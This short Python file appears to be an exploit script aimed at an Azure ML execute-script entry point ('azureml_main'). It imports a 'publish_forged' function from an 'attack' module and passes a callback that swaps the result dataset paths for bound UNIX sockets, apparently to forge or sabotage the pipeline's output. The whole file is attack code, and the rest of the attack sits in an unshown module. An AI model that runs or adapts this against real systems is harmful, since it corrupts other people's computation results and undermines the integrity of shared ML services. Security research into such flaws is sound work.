"""Swaps a result for a socket."""

import os
import socket

from attack import publish_forged


def azureml_main(dataframe1=None, dataframe2=None):
    def listening(path):
        os.chdir(os.path.dirname(path))
        socket.socket(socket.AF_UNIX).bind(os.path.basename(path))

    publish_forged(result_dataset=listening, result_dataset2=listening)
